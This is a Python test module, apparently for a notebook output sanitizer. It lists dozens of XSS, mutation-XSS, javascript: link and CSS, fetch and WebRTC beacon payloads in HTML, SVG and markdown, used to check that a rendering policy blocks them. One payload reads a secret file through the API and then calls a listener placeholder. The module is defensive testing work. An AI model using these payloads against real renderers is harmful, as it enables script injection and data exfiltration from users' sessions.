"""What hostile code publishes to run in the page, reach the network or cover the page.

In each payload ``NET`` stands for the address of a listener (scheme, host and
port) and ``NAME`` for the attack's name; ``UDP`` for the port of a UDP
listener.  A script that runs with the page's rights calls ``pwn('NAME')``, a
function of the page; a load goes to ``NET/hit/NAME``.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass
from typing import Any, Literal

Aim = Literal["script", "network"]


@dataclass(frozen=True, slots=True)
class Attack:
    """One display and what it is after."""

    name: str
    aim: Aim
    data: dict[str, Any]
    click: str = ""
    """Selector of what a person has to click for it; empty: nothing."""

    @property
    def leaves(self) -> bool:
        """Whether a stock page is gone or changed for others when it succeeds."""
        return self.name in _LEAVING

    def filled(self, net: str, udp: int = 9) -> dict[str, Any]:
        """The MIME bundle with the listener's address and the name in it."""

        def fill(value: str) -> str:
            return (
                value.replace("HOST", net.partition("//")[2])
                .replace("NET", net)
                .replace("NAME", self.name)
                .replace("UDP", str(udp))
            )

        return {mime: fill(value) for mime, value in self.data.items()}


def _html(aim: Aim, pairs: dict[str, str]) -> list[Attack]:
    return [Attack(name, aim, {"text/html": source}) for name, source in pairs.items()]


def _svg_image(inner: str) -> str:
    source = f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">{inner}</svg>'
    return base64.b64encode(source.encode()).decode()


STATIC: list[Attack] = [
    *_html(
        "script",
        {
            "script": "<script>pwn('NAME')</script>",
            "script_odd_case": "<ScRiPt >pwn('NAME')</sCrIpT >",
            "img_onerror": "<img src=data:, onerror=\"pwn('NAME')\">",
            "img_slash_onerror": "<img/src='data:,'/onerror=pwn('NAME')>",
            "img_entities": "<img src=data:, onerror=&#112;wn(&#39;NAME&#39;)>",
            "svg_image_onerror": "<svg><image href=data:, onerror=\"pwn('NAME')\" /></svg>",
            "svg_script": "<svg><script>pwn('NAME')</script></svg>",
            "svg_script_entity": "<svg><script>&#112;wn('NAME')</script></svg>",
            "svg_animate": "<svg><animate onbegin=pwn('NAME') attributeName=x dur=1s></svg>",
            "svg_foreign": "<svg><foreignObject><img src=data:, onerror=pwn('NAME')>"
            "</foreignObject></svg>",
            "details_ontoggle": "<details open ontoggle=\"pwn('NAME')\">x</details>",
            "animation": "<style>@keyframes k{from{left:0}to{left:1px}}</style>"
            "<b style='animation:k .01s;position:relative' onanimationstart=\"pwn('NAME')\">x</b>",
            "input_autofocus": "<input autofocus onfocus=\"pwn('NAME')\">",
            "video_onerror": "<video src=data:, onerror=\"pwn('NAME')\"></video>",
            "audio_onerror": "<audio src=data:, onerror=\"pwn('NAME')\"></audio>",
            "iframe_srcdoc": "<iframe srcdoc=\"<script>parent.pwn('NAME')</script>\"></iframe>",
            "iframe_javascript": "<iframe src=\"javascript:parent.pwn('NAME')\"></iframe>",
            "math_handler": "<math><mtext><img src=data:, onerror=pwn('NAME')></mtext></math>",
            "mxss_noscript": '<noscript><p title="</noscript><img src=data:, '
            "onerror=pwn('NAME')>\"></noscript>",
            "mxss_style_svg": '<svg></p><style><a id="</style><img src=data:, '
            "onerror=pwn('NAME')>\">",
            "mxss_math_style": "<math><mtext><table><mglyph><style><!--</style>"
            '<img title="--&gt;&lt;img src=data:, onerror=pwn(&#39;NAME&#39;)&gt;">',
            "comment_end": "<!--><img src=data:, onerror=pwn('NAME')>-->",
            "style_end": "<style>a{}</style ><img src=data:, onerror=pwn('NAME')>",
            "textarea_end": "<textarea></textarea><img src=data:, onerror=pwn('NAME')>",
            "title_end": "<title></title><img src=data:, onerror=pwn('NAME')>",
        },
    ),
    Attack("javascript_mime", "script", {"application/javascript": "pwn('NAME')"}),
    Attack(
        "javascript_with_text",
        "script",
        {"text/javascript": "pwn('NAME')", "text/plain": "<IPython.core.display.Javascript>"},
    ),
    *(
        Attack(name, "script", {"text/markdown": source})
        for name, source in {
            "md_html": "**x** <img src=data:, onerror=\"pwn('NAME')\">",
            "md_script": "x\n\n<script>pwn('NAME')</script>\n",
            "md_fence": "```\n\n```\n<img src=data:, onerror=\"pwn('NAME')\">\n```\n",
            "md_backticks": "\\`<img src=data:, onerror=\"pwn('NAME')\">\\`",
            "md_math": "$x$ <img src=data:, onerror=\"pwn('NAME')\"> $y$",
        }.items()
    ),
    Attack(
        "svg_mime_script",
        "script",
        {
            "image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg'><script>pwn('NAME')</script></svg>"
        },
    ),
    Attack(
        "svg_mime_onload",
        "script",
        {
            "image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg'>"
            "<image href='data:,' onerror=\"pwn('NAME')\"/></svg>"
        },
    ),
    *(
        Attack(name, "script", {"text/html": source}, click)
        for name, source, click in (
            ("link_javascript", "<a class='go' href=\"javascript:pwn('NAME')\">x</a>", "a"),
            ("link_obscured", "<a href=\"jav&#x09;ascript:pwn('NAME')\">x</a>", "a"),
            (
                "svg_link",
                "<svg width=90 height=30><a xlink:href=\"javascript:pwn('NAME')\">"
                "<text y=20>click</text></a></svg>",
                "text",
            ),
            (
                "form_javascript",
                "<form action=\"javascript:pwn('NAME')\"><button>x</button></form>",
                "button",
            ),
            (
                "button_formaction",
                "<form><button formaction=\"javascript:pwn('NAME')\">x</button></form>",
                "button",
            ),
            ("onclick", "<p onclick=\"pwn('NAME')\">click me</p>", "p"),
        )
    ),
    Attack("md_link", "script", {"text/markdown": "[x](javascript:pwn('NAME'))"}, "a"),
    *_html(
        "network",
        {
            "img": "<img src='NET/hit/NAME'>",
            "img_protocol_relative": "<img src='//HOST/hit/NAME'>",
            "img_srcset": "<img srcset='NET/hit/NAME 1x'>",
            "picture": "<picture><source srcset='NET/hit/NAME'><img alt=x></picture>",
            "video_poster": "<video poster='NET/hit/NAME'></video>",
            "audio_src": "<audio src='NET/hit/NAME' preload=auto></audio>",
            "video_source": "<video preload=auto><source src='NET/hit/NAME'></video>",
            "track": "<video src='data:video/mp4;base64,AAAA'>"
            "<track default src='NET/hit/NAME'></video>",
            "input_image": "<input type=image src='NET/hit/NAME'>",
            "link_css": "<link rel=stylesheet href='NET/hit/NAME'>",
            "link_preload": "<link rel=preload as=image href='NET/hit/NAME'>",
            "link_prefetch": "<link rel=prefetch href='NET/hit/NAME'>",
            "link_icon_image": "<link rel=preload as=fetch href='NET/hit/NAME' crossorigin>",
            "css_import": "<style>@import url('NET/hit/NAME');</style>",
            "css_import_string": "<style>@import 'NET/hit/NAME';</style>",
            "css_background": "<style>.NAME{background:url(NET/hit/NAME)}</style><p class=NAME>x</p>",
            "css_escape": "<style>.NAME{background:u\\72l(NET/hit/NAME)}</style><p class=NAME>x</p>",
            "css_image_set": "<style>.NAME{background:image-set('NET/hit/NAME' 1x)}</style>"
            "<p class=NAME>x</p>",
            "css_font": "<style>@font-face{font-family:q;src:url(NET/hit/NAME)}"
            ".NAME{font-family:q}</style><p class=NAME>x</p>",
            "css_content": "<style>.NAME::before{content:url(NET/hit/NAME)}</style><p class=NAME>x</p>",
            "css_list": "<ul style='list-style-image:url(NET/hit/NAME)'><li>x</ul>",
            "css_mask": "<p style='mask-image:url(NET/hit/NAME)'>x</p>",
            "css_border": "<p style='border:9px solid;border-image:url(NET/hit/NAME) 1'>x</p>",
            "css_shape": "<p style='float:left;shape-outside:url(NET/hit/NAME)'>x</p>",
            "css_var": "<p style='--x:url(NET/hit/NAME);background:var(--x)'>x</p>",
            "style_background": "<p style='background:url(NET/hit/NAME)'>x</p>",
            "style_entity": "<p style='background:&#117;rl(NET/hit/NAME)'>x</p>",
            "style_comment": "<p style='/*;*/background:/**/url(NET/hit/NAME)'>x</p>",
            "table_background": "<table background='NET/hit/NAME'><tr><td>x</table>",
            "td_background": "<table><tr><td background='NET/hit/NAME'>x</table>",
            "iframe_remote": "<iframe src='NET/hit/NAME'></iframe>",
            "iframe_data": "<iframe src=\"data:text/html,<img src='NET/hit/NAME'>\"></iframe>",
            "object": "<object data='NET/hit/NAME'></object>",
            "embed": "<embed src='NET/hit/NAME'>",
            "svg_image": "<svg width=9 height=9><image href='NET/hit/NAME' width=9 height=9 />"
            "</svg>",
            "svg_style": "<svg><style>*{background:url(NET/hit/NAME)}</style><rect/></svg><p>x</p>",
            "svg_feimage": "<svg width=9 height=9><filter id=NAMEf><feImage href='NET/hit/NAME'/>"
            "</filter><rect width=9 height=9 filter='url(#NAMEf)'/></svg>",
            "meta_refresh": "<meta http-equiv=refresh content='0;url=NET/hit/NAME'>",
            "base": "<base href='NET/hit/'><img src='NAME'>",
        },
    ),
    Attack("md_image", "network", {"text/markdown": "![x](NET/hit/NAME)"}),
    Attack("md_reference_image", "network", {"text/markdown": "![x][1]\n\n[1]: NET/hit/NAME\n"}),
    Attack("md_html_image", "network", {"text/markdown": "a <img src='NET/hit/NAME'> b"}),
    *(
        Attack(name, "network", {"text/html": source}, click)
        for name, source, click in (
            (
                "form_post",
                "<form method=post action='NET/hit/NAME'><button>x</button></form>",
                "button",
            ),
            ("link_ping", "<a href='#' ping='NET/hit/NAME'>x</a>", "a"),
        )
    ),
]
"""Attacks of static HTML: none may have any effect in any mode but ``trust``."""


def _scripts(pairs: dict[str, str]) -> list[Attack]:
    return [
        Attack(name, "network", {"text/html": f"<p>x</p><script>{{{source}}}</script>"})
        for name, source in pairs.items()
    ]


SCRIPTED: list[Attack] = [
    *_html(
        "script",
        {
            "frame_parent": "<script>for(const w of [parent,parent.parent,top])"
            "try{w.pwn('NAME')}catch{}</script>",
            "frame_document": "<script>for(const w of [parent,parent.parent,top])"
            "try{w.document.title='NAME';w.pwn('NAME')}catch{}</script>",
            "frame_name": "<script>let o;try{o=top.open('javascript:pwn(\"NAME\")','_top')}catch{}"
            "</script>",
            "frame_top_javascript": "<script>try{top.location=\"javascript:pwn('NAME')\"}catch{}"
            "</script>",
            "frame_opener": "<script>try{top.eval(\"pwn('NAME')\")}catch{}</script>",
            "frame_target_top": "<a id=a target=_top href=\"javascript:pwn('NAME')\">x</a>"
            "<script>document.getElementById('a').click()</script>",
            "frame_form_top": "<form id=f target=_top action=\"javascript:pwn('NAME')\"></form>"
            "<script>document.getElementById('f').submit()</script>",
            "frame_escape_string": "<script>/*</script><script>\"';</iframe><img src=data:, "
            "onerror=pwn('NAME')>*/</script><img src=data:, onerror=\"window.pwn&&pwn('NAME')\">",
        },
    ),
    *_scripts(
        {
            "self_location": "location='NET/hit/NAME'",
            "self_replace": "location.replace('NET/hit/NAME')",
            "self_link": "const a=document.createElement('a');a.href='NET/hit/NAME';"
            "document.body.append(a);a.click()",
            "self_link_blank": "const a=document.createElement('a');a.href='NET/hit/NAME';"
            "a.target='_parent';document.body.append(a);a.click()",
            "self_form": "const f=document.createElement('form');f.action='NET/hit/NAME';"
            "document.body.append(f);f.submit()",
            "self_refresh": "const m=document.createElement('meta');m.httpEquiv='refresh';"
            "m.content='0;url=NET/hit/NAME';document.head.append(m)",
            "parent_location": "try{parent.location='NET/hit/NAME'}catch{}",
            "top_location": "try{top.location='NET/hit/NAME'}catch{}",
            "open_parent": "try{open('NET/hit/NAME','_parent')}catch{}",
            "open_self": "try{open('NET/hit/NAME','_self')}catch{}",
            "api_exfiltration": "fetch('/api/contents/secret.json').then(r=>r.text()).then("
            "t=>fetch('NET/hit/NAME',{mode:'no-cors'})).catch(()=>0)",
            "fetch": "fetch('NET/hit/NAME',{mode:'no-cors'}).catch(()=>0)",
            "fetch_keepalive": "fetch('NET/hit/NAME',{mode:'no-cors',keepalive:true}).catch(()=>0)",
            "xhr": "const x=new XMLHttpRequest();x.open('GET','NET/hit/NAME');x.send()",
            "beacon": "navigator.sendBeacon('NET/hit/NAME','x')",
            "websocket": "try{new WebSocket('NET/hit/NAME'.replace('http','ws'))}catch{}",
            "eventsource": "new EventSource('NET/hit/NAME')",
            "image_object": "new Image().src='NET/hit/NAME'",
            "dynamic_import": "import('NET/hit/NAME').catch(()=>0)",
            "script_src": "const s=document.createElement('script');s.src='NET/hit/NAME';"
            "document.head.append(s)",
            "worker_import": "const b=new Blob([\"importScripts('NET/hit/NAME')\"]);"
            "new Worker(URL.createObjectURL(b))",
            "worker_fetch": "const b=new Blob([\"fetch('NET/hit/NAME',{mode:'no-cors'})\"]);"
            "new Worker(URL.createObjectURL(b))",
            "child_remote": "const i=document.createElement('iframe');i.src='NET/hit/NAME';"
            "document.body.append(i)",
            "child_srcdoc": "const i=document.createElement('iframe');"
            "i.srcdoc=\"<img src='NET/hit/NAME'>\";document.body.append(i)",
            "child_blob": "const i=document.createElement('iframe');i.src=URL.createObjectURL("
            "new Blob([\"<img src='NET/hit/NAME'>\"],{type:'text/html'}));"
            "document.body.append(i)",
            "css_inserted": "const s=document.createElement('style');"
            "s.textContent=\"html{background:url('NET/hit/NAME')!important}\";document.head.append(s)",
            "font_face": "new FontFace('q',\"url('NET/hit/NAME')\").load().catch(()=>0)",
            "speculation": "const s=document.createElement('script');s.type='speculationrules';"
            "s.text=JSON.stringify({prefetch:[{source:'list',urls:['NET/hit/NAME']}]});"
            "document.head.append(s)",
            "written": "document.write(\"<img src='NET/hit/NAME'>\")",
            "video_object": "const v=document.createElement('video');v.src='NET/hit/NAME';v.load()",
            "second_policy": "const m=document.createElement('meta');"
            "m.httpEquiv='Content-Security-Policy';m.content='default-src *';"
            "document.head.append(m);new Image().src='NET/hit/NAME'",
        }
    ),
]
"""Attacks of scripts that may run, isolated: none may reach the page or the listener."""

WEBRTC = Attack(
    "webrtc",
    "network",
    {
        "text/html": "<p>x</p><script>const p=new RTCPeerConnection("
        "{iceServers:[{urls:'stun:127.0.0.1:UDP'}]});p.createDataChannel('x');"
        "p.createOffer().then(o=>p.setLocalDescription(o))</script>"
    },
)
"""The known residue: a script that runs reaches the network by WebRTC."""

_LEAVING = frozenset(
    """
    meta_refresh base form_post self_location self_replace self_link self_link_blank self_form
    self_refresh parent_location top_location open_parent open_self written second_policy
    """.split()  # noqa: SIM905
)

WITHOUT_EFFECT = frozenset({"mxss_math_style", "track"})
"""Attacks that do nothing unfiltered in the Chromium we test with: that the policy
stops them proves nothing.  They stay for other browsers."""
